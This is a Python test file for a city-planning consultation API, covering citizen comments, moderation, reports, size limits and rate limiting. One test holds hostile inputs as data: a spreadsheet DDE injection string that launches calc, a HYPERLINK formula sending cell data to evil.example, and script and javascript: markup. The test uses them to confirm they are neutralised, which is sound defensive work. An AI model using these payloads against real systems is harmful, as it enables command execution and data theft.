"""Public consultation of a draft over the API: a planner opens it, anonymous citizens comment on the plan, a zone,
a point and a parcel, the planner hides, answers and records outcomes, and the report (spreadsheet and PDF, read
back) lists it all; the public never sees a contact or a hidden comment.

Abuse: a comment over the size limits, a flood from one address (30 simultaneous posts over real HTTP), markup and
formulas in comments (stored as text, neutralised in the report), a comment after the end, moderation without the
role. Each client address of the ASGI tests is its own, so that the limit of one test does not reach another.
"""

from __future__ import annotations

import asyncio
import io
import itertools
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pypdfium2 as pdfium
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from fastapi import FastAPI
from fastapi.testclient import TestClient
from ogc_sample import CONTROL_LONLAT, DRAFT_CODE, PLAN_CODE, PUBLISH_CODE, load_sample
from openpyxl import load_workbook  # type: ignore[import-untyped]
from planning_served import PlanningServer
from sqlalchemy.engine import Engine

from gis_service.api.app import create_app
from gis_service.api.consultation import CommentAnswer, CommentList, ConsultationAnswer, ConsultationList
from gis_service.as_of import today_in_hue
from gis_service.cli import cli
from gis_service.consultation.comments import CommentLimits, NewComment, add_comment, client_key
from gis_service.db import create_db_engine
from gis_service.db.migrate import upgrade
from gis_service.errors import TooManyRequests
from gis_service.settings import Settings, TileSettings

Headers = Callable[..., dict[str, str]]

_addresses = (f"198.51.100.{i}" for i in itertools.count(10))


@pytest.fixture(scope="module")
def cdb(db_server: Any) -> Iterator[tuple[str, dict[str, Any]]]:
    url = db_server.create("consult")
    upgrade(url)
    ids = load_sample(url)
    yield url, ids
    db_server.drop(url)


@pytest.fixture(scope="module")
def app(cdb: tuple[str, dict[str, Any]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[FastAPI]:
    settings = Settings(database_url=cdb[0], tiles=TileSettings(out_dir=tmp_path_factory.mktemp("tiles")))
    application = create_app(settings)
    with TestClient(application):  # the lifespan: the engine every client below shares
        yield application


@pytest.fixture(scope="module")
def db(cdb: tuple[str, dict[str, Any]]) -> Iterator[Engine]:
    eng = create_db_engine(cdb[0], pool_size=2)
    yield eng
    eng.dispose()


def client(app: FastAPI, addr: str | None = None) -> TestClient:
    """A client of its own address (the comment limits count per address)."""
    return TestClient(app, client=(addr or next(_addresses), 40000))


@pytest.fixture(scope="module")
def planner(cdb: tuple[str, dict[str, Any]], auth_headers: Headers) -> dict[str, str]:
    return auth_headers("planner", database_url=cdb[0])


def open_consultation(app: FastAPI, planner: dict[str, str], code: str, days: int = 30) -> dict[str, Any]:
    today = today_in_hue()
    r = client(app).post(
        f"/plans/{code}/consultations",
        json={
            "starts_on": today.isoformat(),
            "ends_on": (today + timedelta(days=days)).isoformat(),
            "explanation": "Điều chỉnh chiều cao tầng ô phố Z1; lấy ý kiến cộng đồng dân cư 30 ngày.",
        },
        headers=planner,
    )
    assert r.status_code == 201, r.text
    body: dict[str, Any] = r.json()
    ConsultationAnswer.model_validate(body)
    return body


@pytest.fixture(scope="module")
def draft(app: FastAPI, planner: dict[str, str], db: Engine) -> dict[str, Any]:
    """A draft of the sample plan, under consultation from today: its consultation and its zones' ids."""
    r = client(app).post(f"/plans/{PLAN_CODE}/drafts", headers=planner | {"X-Change-Reason": "Lay y kien 2026"})
    assert r.status_code == 201, r.text
    consultation = open_consultation(app, planner, PLAN_CODE)
    with db.connect() as c:
        zones = c.execute(
            sa.text("SELECT zone_code, id FROM planning.zones WHERE plan_id = :p"), {"p": r.json()["id"]}
        ).all()
    return {"plan_id": r.json()["id"], "consultation": consultation, "zones": {str(k): int(v) for k, v in zones}}


def comment(**fields: Any) -> dict[str, Any]:
    return {"author_name": "Trần Thị Hoa", "contact": "hoa.tran@example.vn", "body": "Ý kiến về dự thảo."} | fields


def pdf_text(pdf: bytes) -> str:
    doc = pdfium.PdfDocument(pdf)
    return "\n".join(doc[i].get_textpage().get_text_range() for i in range(len(doc)))


def test_open_list_and_who_sees_what(app: FastAPI, draft: dict[str, Any], planner: dict[str, str]) -> None:
    cid = draft["consultation"]["id"]
    assert draft["consultation"]["status"] == "open"
    assert draft["consultation"]["plan"]["version"] == 2
    public = client(app).get("/consultations", params={"status": "open"})
    assert public.status_code == 200
    ConsultationList.model_validate(public.json())
    mine = [c for c in public.json()["consultations"] if c["id"] == cid]
    assert len(mine) == 1 and "opened_by" not in mine[0]
    staff = client(app).get(f"/consultations/{cid}", headers=planner)
    assert staff.json()["opened_by"] == "test-planner"
    assert "opened_by" not in client(app).get(f"/consultations/{cid}").json()
    assert client(app).get("/consultations", params={"status": "closed", "code": PLAN_CODE}).json() == {
        "consultations": []
    }
    assert client(app).get("/consultations/999999").status_code == 404
    # opening is for planners: anonymous 401, another role 403
    today = today_in_hue().isoformat()
    opening = {"starts_on": today, "ends_on": today, "explanation": "x"}
    assert client(app).post(f"/plans/{PLAN_CODE}/consultations", json=opening).status_code == 401


def test_citizens_comment_planner_moderates_report_lists_it(
    app: FastAPI, draft: dict[str, Any], planner: dict[str, str], auth_headers: Headers, cdb: tuple[str, Any]
) -> None:
    cid = draft["consultation"]["id"]
    ids = cdb[1]
    posts = {
        "plan": comment(target="plan", body="Đề nghị giữ cây xanh dọc đường Đinh Tiên Hoàng."),
        "zone": comment(target="zone", zone_id=draft["zones"]["Z1"], body="Ô Z1: không nên nâng lên 5 tầng.\nCảm ơn."),
        "point": comment(target="point", point=list(CONTROL_LONLAT), body="Chỗ này hay ngập khi mưa lớn."),
        "parcel": comment(
            target="parcel", parcel_id=ids["p1"], contact="0234 3822 123", body="Thửa của tôi: " + "rất dài. " * 554
        ),
        "abuse": comment(target="plan", author_name="Kẻ phá", body="Lời lẽ xúc phạm, quảng cáo."),
    }
    made: dict[str, dict[str, Any]] = {}
    for name, post in posts.items():
        r = client(app).post(f"/consultations/{cid}/comments", json=post)
        assert r.status_code == 201, (name, r.text)
        CommentAnswer.model_validate(r.json())
        assert "contact" not in r.json() and "hidden" not in r.json()
        made[name] = r.json()
    assert made["point"]["point"] == pytest.approx(list(CONTROL_LONLAT), abs=1e-7)
    assert made["parcel"]["parcel_id"] == ids["p1"] and len(made["parcel"]["body"]) <= 5000

    # wrong places: a zone of the approved version, a parcel that does not exist, a point outside Huế
    wrong = {
        "zone of another version": comment(target="zone", zone_id=ids["z1"]),
        "no such parcel": comment(target="parcel", parcel_id=987654),
        "point in Hà Nội": comment(target="point", point=[105.85, 21.03]),
        "point as lat, lon": comment(target="point", point=[CONTROL_LONLAT[1], CONTROL_LONLAT[0]]),
        "zone without zone_id": comment(target="zone"),
        "plan with a parcel": comment(target="plan", parcel_id=ids["p1"]),
        "contact not mail nor phone": comment(target="plan", contact="hỏi ở chợ"),
        "control character": comment(target="plan", body="xin chào\x1b[31m đỏ"),
        "bidirectional override": comment(target="plan", author_name="Nguyễn \u202eAn"),
        "blank body": comment(target="plan", body="   \n "),
    }
    refused: Counter[int] = Counter()
    for name, post in wrong.items():
        r = client(app).post(f"/consultations/{cid}/comments", json=post)
        assert r.status_code in (400, 422), (name, r.status_code, r.text)
        assert r.json()["description"], name
        refused[r.status_code] += 1
    print(f"wrong places and texts refused: {dict(refused)} of {len(wrong)}")

    # moderation: planners only
    patch = client(app).patch(f"/comments/{made['abuse']['id']}", json={"hidden_reason": "Xúc phạm, quảng cáo"})
    assert patch.status_code == 401
    officer = auth_headers("permit_officer", database_url=cdb[0])
    assert (
        client(app).patch(f"/comments/{made['abuse']['id']}", json={"answer": "x"}, headers=officer).status_code == 403
    )
    hidden = client(app).patch(
        f"/comments/{made['abuse']['id']}", json={"hidden_reason": "Xúc phạm, quảng cáo"}, headers=planner
    )
    assert hidden.status_code == 200, hidden.text
    assert hidden.json()["hidden"] and hidden.json()["hidden_by"] == "test-planner"
    answered = client(app).patch(
        f"/comments/{made['zone']['id']}",
        json={"answer": "Tiếp thu: giữ tầng cao tối đa 3 tầng.", "outcome": "accepted"},
        headers=planner,
    )
    assert answered.status_code == 200, answered.text
    assert answered.json()["outcome"] == "accepted" and answered.json()["answered_at"]
    # the outcome's rules: 'changed' names the version, 'not_accepted' the reason
    for bad in ({"outcome": "changed"}, {"outcome": "not_accepted"}, {"outcome": "maybe"}, {}):
        r = client(app).patch(f"/comments/{made['plan']['id']}", json=bad, headers=planner)
        assert r.status_code in (400, 422), (bad, r.text)
    changed = client(app).patch(
        f"/comments/{made['point']['id']}", json={"outcome": "changed", "outcome_version": 3}, headers=planner
    )
    assert changed.json()["outcome_version"] == 3
    rejected = client(app).patch(
        f"/comments/{made['parcel']['id']}",
        json={"outcome": "not_accepted", "outcome_reason": "Thửa nằm ngoài ranh giới điều chỉnh."},
        headers=planner,
    )
    assert rejected.json()["outcome"] == "not_accepted"
    assert client(app).patch("/comments/987654", json={"answer": "x"}, headers=planner).status_code == 404

    # the public sees no contact and no hidden comment; planners see all
    public = client(app).get(f"/consultations/{cid}/comments").json()
    CommentList.model_validate(public)
    public_ids = {c["id"] for c in public["comments"]}
    assert made["abuse"]["id"] not in public_ids
    assert {made[n]["id"] for n in ("plan", "zone", "point", "parcel")} <= public_ids
    assert all("contact" not in c and "hidden_reason" not in c for c in public["comments"])
    assert "hoa.tran@example.vn" not in str(public) and "Xúc phạm" not in str(public)
    staff = client(app).get(f"/consultations/{cid}/comments", headers=planner).json()
    CommentList.model_validate(staff)
    by_id = {c["id"]: c for c in staff["comments"]}
    assert by_id[made["abuse"]["id"]]["hidden_reason"] == "Xúc phạm, quảng cáo"
    assert by_id[made["parcel"]["id"]]["contact"] == "0234 3822 123"
    # shown again: the reason goes with the hiding
    shown = client(app).patch(f"/comments/{made['plan']['id']}", json={"hidden_reason": None}, headers=planner)
    assert shown.status_code == 200 and not shown.json()["hidden"]

    # the report: a planner's, as a spreadsheet and a PDF
    assert client(app).get(f"/plans/{PLAN_CODE}/consultation-report").status_code == 401
    xlsx = client(app).get(f"/plans/{PLAN_CODE}/consultation-report", params={"format": "xlsx"}, headers=planner)
    assert xlsx.status_code == 200, xlsx.text
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(xlsx.content))["Góp ý"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "STT / No." and rows[0][9] == "Kết quả / Outcome"
    body_of = {r[6]: r for r in rows[1:]}
    assert body_of[posts["zone"]["body"]][9] == "Tiếp thu / Accepted"
    assert body_of[posts["zone"]["body"]][8] == "Tiếp thu: giữ tầng cao tối đa 3 tầng."
    assert body_of[posts["point"]["body"]][9] == "Đã điều chỉnh / Changed (phiên bản / version 3)"
    assert body_of[posts["parcel"]["body"].strip()][9].startswith("Không tiếp thu / Not accepted: Thửa nằm")
    assert body_of[posts["abuse"]["body"]][7] == "Đã ẩn / Hidden: Xúc phạm, quảng cáo"
    assert body_of[posts["plan"]["body"]][7] == "Hiển thị / Shown"
    pdf = client(app).get(f"/plans/{PLAN_CODE}/consultation-report", params={"format": "pdf"}, headers=planner)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    text = " ".join(pdf_text(pdf.content).split())
    for phrase in (
        "Báo cáo tổng hợp ý kiến góp ý",
        "Chỗ này hay ngập khi mưa lớn.",
        "Tiếp thu / Accepted",
        "Đã ẩn / Hidden: Xúc phạm, quảng cáo",
        "Thửa nằm ngoài ranh giới điều chỉnh.",
    ):
        assert phrase in text, phrase
    assert len(pdfium.PdfDocument(pdf.content)) >= 2  # the 5,000-character comment runs over a page


def test_markup_and_formulas_are_text_everywhere(
    app: FastAPI, draft: dict[str, Any], planner: dict[str, str], tmp_path: Path, cdb: tuple[str, Any]
) -> None:
    cid = draft["consultation"]["id"]
    hostile = {
        "author_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "contact": "+84 905 123 456",
        "body": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    }
    markup = "<b>in đậm</b> <script>alert('x')</script> <font size=40>to</font> &amp; <a href='javascript:x'>l</a>"
    for post in (comment(target="plan", **hostile), comment(target="plan", body=markup)):
        r = client(app).post(f"/consultations/{cid}/comments", json=post)
        assert r.status_code == 201, r.text
        assert r.json()["body"] == post["body"]  # stored and answered as the text it is
    listed = client(app).get(f"/consultations/{cid}/comments").json()["comments"]
    assert any(c["body"] == markup for c in listed)

    # the CLI writes the same report; the spreadsheet holds no formula, only the text
    out = tmp_path / "report.xlsx"
    result = CliRunner().invoke(
        cli, ["consultation", "report", PLAN_CODE, "--out", str(out)], env={"GIS_DATABASE_URL": cdb[0]}
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out)["Góp ý"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells if isinstance(c.value, str)]
    starts = Counter(v[0] for v in values if v)
    assert not {"=", "+", "-", "@"} & set(starts), starts
    assert "'" + hostile["body"] in values and "'" + hostile["author_name"] in values
    assert "'" + hostile["contact"] in values
    assert markup in values
    # the PDF prints the markup as characters
    pdf_out = tmp_path / "report.pdf"
    result = CliRunner().invoke(
        cli,
        ["consultation", "report", PLAN_CODE, "--format", "pdf", "--out", str(pdf_out)],
        env={"GIS_DATABASE_URL": cdb[0]},
    )
    assert result.exit_code == 0, result.output
    text = " ".join(pdf_text(pdf_out.read_bytes()).split())
    assert "<b>in đậm</b>" in text and "<script>alert('x')</script>" in text and "&amp;" in text
    assert hostile["body"] in text


def test_size_limits(app: FastAPI, draft: dict[str, Any]) -> None:
    cid = draft["consultation"]["id"]
    sizes = {"body": 5000, "author_name": 200}
    for field, limit in sizes.items():
        at = client(app).post(f"/consultations/{cid}/comments", json=comment(target="plan", **{field: "ệ" * limit}))
        assert at.status_code == 201, (field, at.text)
        over = client(app).post(
            f"/consultations/{cid}/comments", json=comment(target="plan", **{field: "ệ" * (limit + 1)})
        )
        assert over.status_code == 422, (field, over.text)
        assert field in over.json()["description"]
    long_contact = client(app).post(
        f"/consultations/{cid}/comments", json=comment(target="plan", contact="a" * 310 + "@example.vn")
    )
    assert long_contact.status_code == 422
    # a body far over the limit is refused before it is read
    huge = client(app).post(f"/consultations/{cid}/comments", json=comment(target="plan", body="x" * 200_000))
    assert huge.status_code == 413 and "64 kB" in huge.json()["description"]


def test_realistic_texts_are_taken_as_written(app: FastAPI, draft: dict[str, Any]) -> None:
    """Vietnamese as phones and keyboards send it: composed or decomposed, with line breaks, tabs and emoji."""
    cid = draft["consultation"]["id"]
    letters = "Đề nghị giữ nguyên chiều cao nhà vườn ở phường Thuận Thành, cạnh Hộ Thành Hà. "
    full = (letters * 80)[:5000].strip()
    samples = {
        "composed": letters,
        "decomposed": unicodedata.normalize("NFD", letters),
        "5,000 letters sent decomposed": unicodedata.normalize("NFD", full),
        "Windows line breaks": "Dòng một.\r\nDòng hai.\r\n\r\nDòng bốn.",
        "tab and emoji": "Cây xanh\t🌳🌳 nên giữ lại 👍",
        "quotes and backslash": 'Tên đường "Lê Duẩn" \\ kiệt 12/3',
    }
    taken = 0
    for name, text in samples.items():
        r = client(app).post(f"/consultations/{cid}/comments", json=comment(target="plan", body=text))
        assert r.status_code == 201, (name, r.text)
        assert r.json()["body"] == unicodedata.normalize("NFC", text).strip(), name
        taken += 1
    assert len(unicodedata.normalize("NFD", full)) > 5000  # the sweep would fail if counted before composing
    print(f"realistic texts taken as written: {taken} of {len(samples)}")


def test_no_comment_outside_the_period(app: FastAPI, planner: dict[str, str], db: Engine, cdb: tuple[str, Any]) -> None:
    ended = open_consultation(app, planner, PUBLISH_CODE)
    tomorrow = today_in_hue() + timedelta(days=1)
    with db.begin() as c:  # first it begins tomorrow
        c.execute(
            sa.text("UPDATE planning.consultations SET starts_on = :s, ends_on = :e WHERE id = :id"),
            {"s": tomorrow, "e": tomorrow + timedelta(days=10), "id": ended["id"]},
        )
    early_bird = client(app).post(f"/consultations/{ended['id']}/comments", json=comment(target="plan"))
    assert early_bird.status_code == 409 and f"begins on {tomorrow}" in early_bird.json()["description"]
    scheduled = client(app).get("/consultations", params={"status": "scheduled"}).json()["consultations"]
    assert [c["id"] for c in scheduled] == [ended["id"]]
    with db.begin() as c:  # ten days pass: the period ended yesterday
        c.execute(
            sa.text("UPDATE planning.consultations SET starts_on = :s, ends_on = :e WHERE id = :id"),
            {"s": today_in_hue() - timedelta(days=10), "e": today_in_hue() - timedelta(days=1), "id": ended["id"]},
        )
    r = client(app).post(f"/consultations/{ended['id']}/comments", json=comment(target="plan"))
    assert r.status_code == 409, r.text
    yesterday = today_in_hue() - timedelta(days=1)
    assert f"ended on {yesterday}" in r.json()["description"]
    assert f"kết thúc ngày {yesterday:%d/%m/%Y}" in r.json()["description"]
    assert client(app).get(f"/consultations/{ended['id']}").json()["status"] == "closed"

    early = open_consultation(app, planner, DRAFT_CODE)
    assert client(app).post(f"/consultations/{early['id']}/close").status_code == 401
    closed = client(app).post(f"/consultations/{early['id']}/close", headers=planner)
    assert closed.status_code == 200 and closed.json()["status"] == "closed"
    r = client(app).post(f"/consultations/{early['id']}/comments", json=comment(target="plan"))
    assert r.status_code == 409 and f"ended on {today_in_hue()}" in r.json()["description"]
    assert client(app).post(f"/consultations/{early['id']}/close", headers=planner).status_code == 409


def test_a_flood_from_one_address_over_http(
    cdb: tuple[str, Any], draft: dict[str, Any], db: Engine, tmp_path: Path
) -> None:
    """30 simultaneous posts from one address: exactly the limit (set to 7 in 10 minutes) gets in, the rest 429."""
    cid = draft["consultation"]["id"]
    limit = 7

    async def flood(url: str) -> list[httpx.Response]:
        async with httpx.AsyncClient(base_url=url, timeout=60) as http:
            posts = [
                http.post(f"/consultations/{cid}/comments", json=comment(target="plan", body=f"Góp ý số {i}"))
                for i in range(30)
            ]
            return await asyncio.gather(*posts)

    with PlanningServer(cdb[0], tmp_path, {"GIS_LIMITS__COMMENTS_PER_10_MIN": str(limit)}) as server:
        answers = asyncio.run(flood(server.url))
        again = httpx.post(f"{server.url}/consultations/{cid}/comments", json=comment(target="plan"), timeout=30)
        huge = httpx.post(
            f"{server.url}/consultations/{cid}/comments", json=comment(target="plan", body="x" * 100_000), timeout=30
        )
    statuses = Counter(r.status_code for r in answers)
    print(f"30 simultaneous posts from one address: {dict(statuses)}")
    assert statuses == {201: limit, 429: 30 - limit}
    for r in answers:
        if r.status_code == 429:
            assert 1 <= int(r.headers["Retry-After"]) <= 600
            assert f"at most {limit} in 10 minutes" in r.json()["description"]
    assert again.status_code == 429
    assert huge.status_code == 413
    with db.connect() as c:
        stored = c.execute(
            sa.text("SELECT count(*) FROM planning.comments WHERE client_key = :k"), {"k": client_key("127.0.0.1")}
        ).scalar_one()
    assert stored == limit


def test_the_daily_limit_holds_under_concurrency(db: Engine, draft: dict[str, Any]) -> None:
    """40 posts at once from one address, with a window limit out of the way: exactly 30 in the day."""
    from concurrent.futures import ThreadPoolExecutor

    cid = draft["consultation"]["id"]
    limits = CommentLimits(per_window=1000, window_s=600, per_day=30)

    def post(i: int) -> str:
        try:
            with db.begin() as conn:
                add_comment(
                    conn,
                    cid,
                    NewComment(target="plan", author_name="Lê Văn Bình", contact="0905123456", body=f"Ý kiến {i}"),
                    client_addr="2001:db8:42:7::1" if i % 2 else "2001:db8:42:7:ffff::2",  # one /64 network
                    limits=limits,
                )
        except TooManyRequests as exc:
            assert "30 a day" in exc.message
            return "refused"
        return "added"

    with ThreadPoolExecutor(max_workers=8) as pool:
        outcomes = Counter(pool.map(post, range(40)))
    print(f"40 posts in a day from one /64: {dict(outcomes)}")
    assert outcomes == {"added": 30, "refused": 10}


def test_the_commands_open_list_and_close(cdb: tuple[str, Any], draft: dict[str, Any]) -> None:
    env = {"GIS_DATABASE_URL": cdb[0]}
    today = today_in_hue()
    runner = CliRunner()
    period = ["--from", str(today), "--to", str(today + timedelta(days=14))]
    why = ["--explanation", "Điều chỉnh ô P2: lấy ý kiến 15 ngày.", "--user", "lan.nguyen"]
    opened = runner.invoke(cli, ["consultation", "open", PUBLISH_CODE, *period, *why], env=env)
    assert opened.exit_code == 0, opened.output
    cid = int(opened.stdout.strip())
    listed = runner.invoke(cli, ["consultation", "list", "--code", PUBLISH_CODE], env=env)
    assert listed.exit_code == 0, listed.output
    row = next(line.split() for line in listed.stdout.splitlines() if line.split()[0] == str(cid))
    assert row == [str(cid), PUBLISH_CODE, "2", str(today), str(today + timedelta(days=14)), "open", "0"]
    assert runner.invoke(cli, ["consultation", "close", str(cid)], env=env).exit_code == 0
    again = runner.invoke(cli, ["consultation", "close", str(cid)], env=env)
    assert again.exit_code == 1 and "closed already" in again.output
    late = runner.invoke(
        cli,
        ["consultation", "open", PUBLISH_CODE, "--from", "2020-01-01", "--to", "2020-01-31", "--explanation", "x"],
        env=env,
    )
    assert late.exit_code == 1 and "before today" in late.output
    missing = runner.invoke(cli, ["consultation", "report", "46QPK9999999", "--out", "x.xlsx"], env=env)
    assert missing.exit_code == 1 and "no plan with code" in missing.output


def test_publishing_closes_the_consultation_and_the_report_stays(
    app: FastAPI, draft: dict[str, Any], planner: dict[str, str]
) -> None:
    """Runs last: the draft of the sample plan is published with its decision."""
    cid = draft["consultation"]["id"]
    before = client(app).get(f"/consultations/{cid}/comments", headers=planner).json()["comments"]
    published = client(app).post(
        f"/plans/{PLAN_CODE}/publish",
        json={"decision_no": "77/QĐ-UBND", "decision_date": str(today_in_hue())},
        headers=planner | {"X-Change-Reason": "Phe duyet sau lay y kien"},
    )
    assert published.status_code == 200, published.text
    assert client(app).get(f"/consultations/{cid}").json()["status"] == "closed"
    r = client(app).post(f"/consultations/{cid}/comments", json=comment(target="plan"))
    assert r.status_code == 409 and f"ended on {today_in_hue()}" in r.json()["description"]
    xlsx = client(app).get(f"/plans/{PLAN_CODE}/consultation-report", headers=planner)
    rows = list(load_workbook(io.BytesIO(xlsx.content))["Góp ý"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(before) > 0
    assert Counter(r[9].split(" (")[0].split(":")[0] for r in rows) == Counter(
        {
            "Tiếp thu / Accepted": 1,
            "Đã điều chỉnh / Changed": 1,
            "Không tiếp thu / Not accepted": 1,
            "Chưa xử lý / Pending": len(before) - 3,
        }
    )
